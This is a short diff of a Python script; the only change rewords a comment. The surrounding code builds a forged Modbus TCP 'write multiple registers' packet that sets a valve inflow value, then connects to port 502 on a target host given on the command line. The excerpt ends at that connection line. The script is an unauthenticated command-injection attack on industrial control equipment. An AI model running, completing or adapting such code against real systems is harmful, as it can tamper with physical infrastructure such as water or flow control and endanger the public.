@@ -9,7 +9,7 @@ import sys
 import time
 
 INFLOW_M3_S = 0.3
-# Transaction, protocol, length, unit; write registers: first, how many, bytes, value.
+# Transaction, protocol, length, unit; write registers: first, count, bytes, value.
 FORGED = struct.pack(">HHHBBHHBf", 7, 0, 11, 1, 16, 0, 2, 4, INFLOW_M3_S)
 
 with socket.create_connection((sys.argv[1], 502)) as valve:
